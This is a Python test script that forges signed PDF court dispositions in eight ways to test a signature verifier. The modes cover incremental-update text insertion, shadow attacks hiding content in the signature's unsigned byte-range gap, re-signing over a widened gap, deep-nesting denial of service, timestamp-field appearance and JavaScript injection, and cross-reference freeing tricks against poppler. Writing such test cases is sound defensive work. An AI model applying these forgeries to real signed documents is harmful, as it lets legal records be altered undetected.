#!/usr/bin/env python3
"""Attacks on a signed disposition PDF, as someone with a copy of it would make them.

Used by tests/cli/tst_forgery: each mode writes a file that a careless verifier would
call valid. Only the standard library, qpdf (to read the structure) and openssl (for the
attack that has the key) are used; the PDF syntax written is the minimum an incremental
update needs (PDF 32000-1, 7.5.6).

  forge.py append-text IN OUT          an update that adds visible text to page 1
  forge.py smuggle IN OUT              the genuine signature kept, new content hidden in
                                       its unsigned gap, the signature dictionary redefined
  forge.py wide-gap IN OUT PEM         re-signed WITH the key over a byte range whose gap
                                       swallows 40 KB of the page, then a byte in the gap
                                       changed
  forge.py nested IN OUT               an update with an object nested 100,000 deep
  forge.py dss-and-text IN OUT         an update that adds a Document Security Store, as
                                       PAdES allows, and with it visible text on page 1
  forge.py paint-timestamp IN OUT      the document timestamp's field of a B-LTA PDF
                                       given an appearance that paints text on the page
  forge.py timestamp-action IN OUT     that field given a JavaScript action instead
  forge.py free-content IN OUT         an update whose cross-reference table frees page 1's
                                       content and resources while its body redefines them
                                       unlisted: poppler rebuilds the table and shows them
"""
import json
import re
import subprocess
import sys
import tempfile

TEXT = b"Oppose dismissal; seek an order of removal."


def last_trailer(data):
    start = data.rindex(b"trailer")
    trailer = data[start:]
    fields = {}
    for key in (b"Root", b"Info"):
        m = re.search(rb"/" + key + rb"\s*(\d+\s+\d+\s+R)", trailer)
        if m:
            fields[key] = m.group(1)
    fields[b"Size"] = int(re.search(rb"/Size\s*(\d+)", trailer).group(1))
    fields[b"startxref"] = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    return fields


def xref_section(offsets, trailer, prev, size):
    body = b"xref\n"
    for number in sorted(offsets):
        body += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    body += b"trailer\n<</Size %d /Root %s" % (size, trailer[b"Root"])
    if b"Info" in trailer:
        body += b" /Info %s" % trailer[b"Info"]
    body += b" /Prev %d>>\n" % prev
    return body


def append(data, objects):
    trailer = last_trailer(data)
    sep = b"" if data.endswith(b"\n") else b"\n"
    out = data + sep
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(trailer[b"Size"], max(objects) + 1)
    xref_at = len(out)
    out += xref_section(offsets, trailer, trailer[b"startxref"], size)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return out


def show(path, number):
    return subprocess.run(["qpdf", "--show-object=%d" % number, path],
                          check=True, capture_output=True).stdout.strip()


def first_page(path):
    info = json.loads(subprocess.run(["qpdf", "--json=2", "--json-key=pages", path],
                                     check=True, capture_output=True).stdout)
    page = info["pages"][0]
    return int(page["object"].split()[0])


def text_objects(path, data):
    """A new font, a content stream that whites out the top of page 1 and writes TEXT,
    and page 1 and its resources redefined to show it."""
    size = last_trailer(data)[b"Size"]
    font, content = size, size + 1
    page = first_page(path)
    page_dict = show(path, page)
    resources = int(re.search(rb"/Resources (\d+) 0 R", page_dict).group(1))
    stream = (b"q 1 1 1 rg 40 600 532 150 re f Q BT /FForged 16 Tf 1 0 0 rg 50 700 Td (" +
              TEXT + b") Tj ET")
    return {
        font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        content: b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        page: re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents [ \1 %d 0 R ]" % content, page_dict),
        resources: show(path, resources).replace(b"/Font <<", b"/Font << /FForged %d 0 R" % font, 1),
    }


def signature_dict(data):
    at = data.rindex(b"/ByteRange")
    start = data.rindex(b" obj", 0, at)
    number = int(data[data.rindex(b"\n", 0, start) + 1:start].split()[0])
    br = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data[at:])
    b, c = int(br.group(2)), int(br.group(3))
    end = data.index(b"endobj", c)
    return number, data[data.rindex(b"\n", 0, start) + 1:end], b, c, at


def append_text(src, dst):
    data = open(src, "rb").read()
    open(dst, "wb").write(append(data, text_objects(src, data)))


def smuggle(src, dst):
    """The unsigned gap grows to hold an update of new content and a redefined signature
    dictionary; the original tail follows, so the genuine signature still matches bytes
    0..b and the tail, and the file's last startxref (in the tail) points into the gap."""
    data = open(src, "rb").read()
    number, sig, b, c, _ = signature_dict(data)
    tail = data[c:]
    old_xref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    trailer = last_trailer(data[:b] + b"trailer" + data[data.rindex(b"trailer"):])
    objects = text_objects(src, data)
    # Every object of the signed update must be listed again: the reader starts at our
    # section. Read them from the signed update's own xref section.
    section = data[old_xref:data.index(b"trailer", old_xref)]
    listed = {}
    lines = section.split(b"\n")[1:]
    i = 0
    while i < len(lines):
        head = lines[i].split()
        if len(head) == 2:
            first, count = int(head[0]), int(head[1])
            for k in range(count):
                entry = lines[i + 1 + k].split()
                if entry[2] == b"n":
                    listed[first + k] = int(entry[0])
            i += count + 1
        else:
            i += 1
    # The gap: the original hex value, padding, then our xref section exactly where the
    # old startxref points, then our objects (new content and the redefined dictionary).
    first_xref = int(re.findall(rb"/Prev\s*(\d+)", data[data.rindex(b"trailer"):])[-1])
    sig_body = (b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached"
                b"/ByteRange[0 %d XXXXXXXXXX %d]/Contents" % (b, len(tail)) + data[b:c] + b">>")
    objects[number] = sig_body
    every = dict(listed)
    every.update({n: 0 for n in objects})
    size = max(trailer[b"Size"], max(every) + 1)
    xref_length = len(xref_section(every, trailer, first_xref, size))
    at = old_xref + xref_length
    placed = b""
    for n in sorted(objects):
        every[n] = at + len(placed)
        placed += b"%d 0 obj\n" % n + objects[n] + b"\nendobj\n"
    # Objects the signed update wrote after the signature value (a certification
    # signature's /Reference dictionaries) move with the tail, by the length of the gap.
    shift = (old_xref - c) + xref_length + len(placed)
    for n, offset in listed.items():
        if offset >= c and n not in objects:
            every[n] = offset + shift
    xref = xref_section(every, trailer, first_xref, size)
    assert len(xref) == xref_length and old_xref > c
    body = b" " * (old_xref - c) + xref + placed
    body = body.replace(b"XXXXXXXXXX", b"%010d" % (c + len(body)))
    out = data[:c] + body + tail
    # The tail's own startxref still names the old offset, now our section.
    open(dst, "wb").write(out)


def byte_inside_a_stream(data, low, high):
    """The middle byte of the last stream's data between low and high: changing it leaves
    every object header and offset of the file whole."""
    for m in reversed(list(re.finditer(rb"(?<!end)stream\r?\n", bytes(data[low:high])))):
        start = low + m.end()
        end = bytes(data).find(b"endstream", start)
        if start < end < high and end - start > 2:
            return (start + end) // 2
    sys.exit("forge.py: no stream between bytes %d and %d" % (low, high))


def wide_gap(src, dst, pem):
    data = bytearray(open(src, "rb").read())
    number, sig, b, c, at = signature_dict(bytes(data))
    br = re.search(rb"/ByteRange\s*\[[^\]]*\]", bytes(data[at:]))
    d = len(data) - c
    new_b = b - 40000
    text = b"/ByteRange[ 0 %d %d %d" % (new_b, c, d)
    field = br.group(0)
    text = text + b" " * (len(field) - len(text) - 1) + b"]"
    data[at:at + len(field)] = text
    with tempfile.NamedTemporaryFile() as signed, tempfile.NamedTemporaryFile() as cms:
        signed.write(bytes(data[:new_b]) + bytes(data[c:]))
        signed.flush()
        subprocess.run(["openssl", "cms", "-sign", "-binary", "-md", "sha256", "-outform", "DER",
                        "-nosmimecap", "-signer", pem, "-inkey", pem, "-in", signed.name,
                        "-out", cms.name], check=True)
        value = open(cms.name, "rb").read().hex().upper().encode()
    room = c - b - 2
    data[b + 1:b + 1 + room] = value + b"0" * (room - len(value))
    # A byte inside the gap, in a stream's data, changed: nothing signs it now. A fixed
    # offset sometimes hit an object header ("8 0 obj" became "9 0 obj"), and the file
    # was refused as damaged before the gap rule was reached.
    data[byte_inside_a_stream(data, new_b, b)] ^= 0x01
    open(dst, "wb").write(bytes(data))


def nested(src, dst):
    data = open(src, "rb").read()
    depth = 100000
    size = last_trailer(data)[b"Size"]
    open(dst, "wb").write(append(data, {size: b"<</A " * depth + b"1" + b">>" * depth}))


def catalog_number(data):
    return int(last_trailer(data)[b"Root"].split()[0])


def dss_and_text(src, dst):
    data = open(src, "rb").read()
    objects = text_objects(src, data)
    dss = max(max(objects), last_trailer(data)[b"Size"]) + 1
    root = catalog_number(data)
    catalog = show(src, root)
    catalog = re.sub(rb"/DSS \d+ 0 R", b"", catalog)
    objects[root] = catalog[:-2] + b" /DSS %d 0 R >>" % dss
    objects[dss] = b"<< /Type /DSS /Certs [] >>"
    open(dst, "wb").write(append(data, objects))


def paint_timestamp(src, dst):
    data = open(src, "rb").read()
    field = int(re.findall(rb"(\d+) 0 obj\s*<<[^>]*/T\s*\(Document timestamp\)", data)[-1])
    widget = show(src, field)
    size = last_trailer(data)[b"Size"]
    font, look = size, size + 1
    stream = b"BT /FForged 16 Tf 1 0 0 rg 10 50 Td (" + TEXT + b") Tj ET"
    widget = re.sub(rb"/Rect\s*\[[^\]]*\]", b"/Rect [ 40 600 572 700 ]", widget)
    widget = re.sub(rb"/F\s+\d+", b"/F 4", widget)
    widget = widget[:-2] + b" /AP << /N %d 0 R >> >>" % look
    open(dst, "wb").write(append(data, {
        field: widget,
        font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        look: b"<< /Type /XObject /Subtype /Form /BBox [ 0 0 532 100 ] /Resources << /Font << "
              b"/FForged %d 0 R >> >> /Length %d >>\nstream\n" % (font, len(stream)) + stream +
              b"\nendstream",
    }))


def timestamp_action(src, dst):
    data = open(src, "rb").read()
    field = int(re.findall(rb"(\d+) 0 obj\s*<<[^>]*/T\s*\(Document timestamp\)", data)[-1])
    widget = show(src, field)
    widget = widget[:-2] + b" /AA << /PO << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>"
    open(dst, "wb").write(append(data, {field: widget}))


def free_content(src, dst):
    data = open(src, "rb").read()
    objects = text_objects(src, data)
    page = first_page(src)
    content = int(re.search(rb"/Contents\s*(\d+) 0 R", show(src, page)).group(1))
    resources = int(re.search(rb"/Resources (\d+) 0 R", show(src, page)).group(1))
    stream = (b"q 1 1 1 rg 0 0 612 792 re f Q BT /FForged 16 Tf 1 0 0 rg 50 700 Td (" + TEXT +
              b") Tj ET")
    font = last_trailer(data)[b"Size"]
    body = {
        font: objects[font],
        content: b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        resources: objects[[k for k in objects if k not in (font, page) and k != font + 1][0]],
    }
    trailer = last_trailer(data)
    out = data + (b"" if data.endswith(b"\n") else b"\n")
    for number in sorted(body):
        out += b"%d 0 obj\n" % number + body[number] + b"\nendobj\n"
    xref_at = len(out)
    # The table frees the two objects the body redefines and lists nothing else.
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted((content, resources)):
        out += b"%d 1\n0000000000 00001 f \n" % number
    out += b"trailer\n<</Size %d /Root %s /Info %s /Prev %d>>\n" % (
        trailer[b"Size"], trailer[b"Root"], trailer[b"Info"], trailer[b"startxref"])
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    open(dst, "wb").write(out)


if __name__ == "__main__":
    mode = sys.argv[1]
    {"append-text": append_text, "smuggle": smuggle, "wide-gap": wide_gap,
     "nested": nested, "dss-and-text": dss_and_text,
     "paint-timestamp": paint_timestamp, "timestamp-action": timestamp_action,
     "free-content": free_content}[mode](*sys.argv[2:])
